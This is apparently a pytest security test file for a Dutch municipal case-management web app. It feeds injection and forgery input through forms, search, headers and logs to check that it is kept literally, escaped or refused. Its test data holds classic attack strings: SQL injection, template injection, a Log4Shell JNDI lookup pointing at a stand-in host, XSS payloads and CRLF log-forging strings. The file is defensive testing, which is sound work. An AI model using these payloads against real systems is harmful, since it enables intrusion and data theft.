"""What people type, paste and forge: kept literally, shown harmlessly, or refused in Dutch."""

from __future__ import annotations

import json
import logging
import re
from html import escape

import pytest

from audit.models import Event
from cases import actions
from cases.facts import FACTS
from cases.models import Case, Task
from desk import finding
from inburgering.logs import OneLine
from tenancy.scope import scope
from tests.cast import AMINAS_BSN, MONDAY, newcomer
from tests.desk.unchanged import NO_SUCH, nothing_stored

pytestmark = pytest.mark.django_db
LITERAL = [
    "'; DROP TABLE cases_person; --",
    "%' OR 1=1 --",
    "{{7*7}}{% include 'base.html' %}",
    "${jndi:ldap://kwaad.example/a}",
    "<script>alert(1)</script>",
    "&lt;b&gt; &amp; &#39;",
    "%s %(title)s {0} \\n \\u0000",
    "=HYPERLINK(1)",
]
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</textarea></title><svg onload=alert(1)>",
    "javascript:alert(1)//' onfocus='alert(1)",
]
LIVE = re.compile(r"<script>alert|<img src=x|<svg onload|' onfocus='|href=\"javascript:")


def form(case, name="taken"):
    return f"/dossiers/{case.pk}/{name}/"


def typed(user, **changes):
    task = {"title": "Bel", "due_on": "2030-12-02", "assignee": str(user.pk)}
    return task | changes


def find(client, text):
    answer = client.post("/zoeken/", {"zoek": text})
    return client.get(answer.headers["Location"]).content.decode()


def without_tokens(answer):
    return re.sub(rb"[A-Za-z0-9]{64}|name=\"eenmalig\" value=\"[0-9a-f-]+\"", b"", answer.content)


@pytest.mark.parametrize("text", LITERAL)
def test_what_is_typed_is_kept_and_shown_literally(cast, sign_in, text):
    bas = sign_in(cast.bas)
    assert bas.post(form(cast.amina), typed(cast.bas, title=text)).status_code == 302
    with scope(cast.rivierstad.pk):
        assert Task.objects.get(kind="own").title == text
    shown = escape(text).replace("&#x27;", "&#39;").replace("&quot;", "&#34;")
    assert shown in bas.get(f"/dossiers/{cast.amina.pk}/").content.decode()


@pytest.mark.parametrize("text", [*LITERAL, "%", "_____", "\\\\\\\\", "(a+)+$" * 30, "x" * 5000])
def test_searching_for_it_finds_nobody_and_breaks_nothing(cast, sign_in, text):
    assert "Er is niemand gevonden." in find(sign_in(cast.bas), text)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_name_with_code_in_it_runs_on_no_page(cast, sign_in, text):
    with scope(cast.rivierstad.pk):
        case = newcomer(cast.rivierstad, text, text, assignee=cast.bas)
        task = actions.add_task(
            case=case, title=text, due_on=MONDAY, assignee=cast.bas, by=cast.bas, on=MONDAY
        )
    for one in (cast.bas, cast.rivierstad):
        one.name = text[:80]
        one.save()
    bas = sign_in(cast.bas)
    bas.post(form(case, "correcties/city"), {"value": text[:80], "reason": text})
    pages = ["/mijn-werk/", "/dossiers/", "/account/", f"/dossiers/{case.pk}/"]
    pages += [form(case), form(case, "toewijzing"), form(case, "correcties/bestaat-niet")]
    pages += [form(case, f"correcties/{name}") for name in FACTS]
    pages += [f"/taken/{task.pk}/{name}/" for name in ("afronding", "wachten")]
    for page in pages:
        answer = bas.get(page)
        assert not LIVE.search(answer.content.decode()), page
        assert "script-src 'self'" in answer.headers["Content-Security-Policy"]
    assert not LIVE.search(find(bas, text))


@pytest.mark.parametrize("text", HOSTILE)
def test_code_typed_in_a_form_or_address_runs_nowhere(cast, sign_in, client, text):
    bas = sign_in(cast.bas)
    answers = [
        bas.post(form(cast.amina), typed(cast.bas, title=text, assignee=text)),
        bas.get("/dossiers/", {"sort": text, "phase": text, "after": text}),
        client.get("/inloggen/", {"next": text}),
        client.post("/inloggen/", {"username": text, "password": text, "next": text}),
        bas.get(f"/{text}/"),
    ]
    assert [answer.status_code for answer in answers] == [400, 400, 200, 400, 404]
    assert not any(LIVE.search(answer.content.decode()) for answer in answers)


@pytest.mark.parametrize(
    "typed",
    [
        "９９９９９００１９",
        "9999.90.019",
        f"{AMINAS_BSN}\u200b",
        "999\u202f990\u00a0019",
        AMINAS_BSN,
    ],
)
def test_a_bsn_in_any_notation_finds_its_person_and_is_not_repeated(cast, sign_in, typed):
    page = find(sign_in(cast.bas), typed)
    assert cast.amina.number in page
    assert typed not in page


@pytest.mark.parametrize("typed", [f"bsn {AMINAS_BSN}", f"{AMINAS_BSN}, Amina"])
def test_a_bsn_among_words_is_not_repeated_either(cast, sign_in, typed):
    page = find(sign_in(cast.bas), typed)
    assert "Typ alleen het BSN, zonder andere tekst erbij." in page
    assert AMINAS_BSN not in page


def test_who_may_not_see_a_bsn_cannot_search_by_it_in_any_notation(cast, sign_in):
    carla = sign_in(cast.carla)
    for notation in (AMINAS_BSN, "９９９９９００１９", "999.990.019"):
        page = find(carla, notation)
        assert cast.amina.number not in page
        assert "U mag niet zoeken op BSN." in page


def test_nothing_but_a_name_a_bsn_or_a_number_is_looked_for(cast):
    with scope(cast.rivierstad.pk):
        for text in ("", " ", "a", "a b", "%", "*", "😀", "\u200b"):
            found = finding.read(text, permissions=set()).among(Case.objects.all())
            assert not found.exists(), text


class TestTheLog:
    """One record is one line of JSON, whatever someone sends."""

    FORGED = '\r\n{"level": "INFO", "message": "Ingelogd"}\x1b[2J\u2028x'

    def lines(self, caplog):
        return [OneLine().format(record) for record in caplog.records]

    def test_a_line_cannot_be_forged(self, caplog):
        logging.getLogger("x").warning("Naam: %s", self.FORGED)
        (line,) = self.lines(caplog)
        assert line.isascii()
        assert line.isprintable()
        assert json.loads(line)["message"] == f"Naam: {self.FORGED}"

    def test_not_by_what_a_browser_sends_either(self, caplog, client, settings):
        headers = {"user-agent": self.FORGED, "x-forwarded-for": self.FORGED}
        client.get("/bestaat-niet%0d%0aVERVALST/", headers=headers)
        client.get("/", headers={"host": f"kwaad{self.FORGED}"})
        for _ in range(6):
            answer = client.post(
                "/inloggen/", {"username": f"bas{self.FORGED}x", "password": "x"}, headers=headers
            )
        assert answer.status_code == 429
        assert self.lines(caplog)
        for line in self.lines(caplog):
            assert json.loads(line).keys() >= {"at", "level", "logger", "message"}
            assert line.isprintable()

    def test_the_text_of_an_error_is_left_out(self, caplog):
        try:
            raise ValueError(AMINAS_BSN)
        except ValueError:
            logging.getLogger("x").exception("Mislukt")
        (line,) = self.lines(caplog)
        assert AMINAS_BSN not in line
        assert json.loads(line)["error"] == "ValueError"

    def test_a_search_leaves_no_word_of_it(self, caplog, cast, sign_in):
        with caplog.at_level(logging.DEBUG):
            find(sign_in(cast.bas), AMINAS_BSN)
            find(sign_in(cast.bas), "Yusuf")
        for line in self.lines(caplog):
            assert AMINAS_BSN not in line
            assert '"/zoeken/Yusuf' not in line


def test_a_bsn_in_an_address_is_noted_nowhere(cast, sign_in):
    answer = sign_in(cast.bas).get(form(cast.amina, f"correcties/{AMINAS_BSN}"))
    assert answer.status_code == 404
    with scope(cast.rivierstad.pk):
        assert AMINAS_BSN not in str(list(Event.objects.values()))


class TestExtraFields:
    def test_choose_neither_municipality_nor_owner_nor_state(self, cast, sign_in):
        extra = {
            "municipality": str(cast.heuvelrode.pk),
            "id": NO_SUCH,
            "pk": NO_SUCH,
            "case": str(cast.dirks_case.pk),
            "kind": "plan",
            "done_on": "2026-01-01",
            "done_by": str(cast.noor.pk),
            "added_by": str(cast.noor.pk),
            "article": "art. 1",
            "is_superuser": "1",
        }
        sign_in(cast.bas).post(form(cast.amina), typed(cast.bas, **extra))
        with scope(cast.rivierstad.pk):
            task = Task.objects.get(kind="own")
        assert (task.municipality_id, task.case_id) == (cast.rivierstad.pk, cast.amina.pk)
        assert (str(task.pk) != NO_SUCH, task.done_on, task.done_by) == (True, None, None)
        assert (task.added_by, task.article) == (cast.bas.pk, "")

    def test_correct_no_second_fact(self, cast, sign_in):
        before = (cast.amina.target_group, cast.amina.notified_on)
        typed = {
            "value": "Rivierstad",
            "reason": "Verhuisd",
            "family_name": "X",
            "bsn": "111222333",
        }
        sign_in(cast.bas).post(
            form(cast.amina, "correcties/city"), typed | {"target_group": "family", "fact": "bsn"}
        )
        with scope(cast.rivierstad.pk):
            case = Case.objects.select_related("person").get()
            person = case.person
            assert (person.city, person.family_name, person.bsn) == (
                "Rivierstad",
                "Yusuf",
                AMINAS_BSN,
            )
            assert (case.target_group, case.notified_on) == before


class TestSomeoneElsesThings:
    """Of another municipality: the same answer as for what does not exist."""

    @pytest.mark.parametrize("name", ["taken", "toewijzing", "correcties/city"])
    def test_a_case_cannot_be_worked_on(self, cast, sign_in, name):
        bas = sign_in(cast.bas)
        data = typed(cast.bas, to=str(cast.bas.pk), value="x", reason="x")
        with nothing_stored(cast):
            theirs = bas.post(form(cast.dirks_case, name), data)
            nothing = bas.post(f"/dossiers/{NO_SUCH}/{name}/", data)
        assert (theirs.status_code, nothing.status_code) == (404, 404)
        assert theirs.content == nothing.content

    @pytest.mark.parametrize("name", ["afronding", "wachten"])
    def test_a_task_cannot_be_worked_on(self, cast, sign_in, name):
        with scope(cast.heuvelrode.pk):
            task = Task.objects.get()
        bas, data = sign_in(cast.bas), {"whom": "duo", "due_on": "2030-12-02"}
        with nothing_stored(cast):
            theirs = bas.post(f"/taken/{task.pk}/{name}/", data)
            nothing = bas.post(f"/taken/{NO_SUCH}/{name}/", data)
        assert (theirs.status_code, nothing.status_code) == (404, 404)
        assert theirs.content == nothing.content

    @pytest.mark.parametrize(("name", "field"), [("taken", "assignee"), ("toewijzing", "to")])
    def test_their_colleague_cannot_be_chosen(self, cast, sign_in, name, field):
        bas = sign_in(cast.bas)
        with nothing_stored(cast):
            theirs, nothing = (
                bas.post(form(cast.amina, name), typed(cast.bas) | {field: str(who)})
                for who in (cast.dirk.pk, NO_SUCH)
            )
        assert (theirs.status_code, nothing.status_code) == (400, 400)
        assert "Selecteer een geldige keuze." in theirs.content.decode()
        assert without_tokens(theirs) == without_tokens(nothing)

    def test_their_search_and_their_place_in_the_list_do_not_exist(self, cast, sign_in):
        theirs = sign_in(cast.dirk).post("/zoeken/", {"zoek": "Tesfay"}).headers["Location"]
        bas = sign_in(cast.bas)
        assert bas.get(theirs).status_code == 404
        keyed, unknown = (
            bas.get("/dossiers/", {"after": key}) for key in (cast.dirks_case.pk, NO_SUCH)
        )
        assert keyed.status_code == 200
        assert without_tokens(keyed).replace(str(cast.dirks_case.pk).encode(), b"") == (
            without_tokens(unknown).replace(NO_SUCH.encode(), b"")
        )
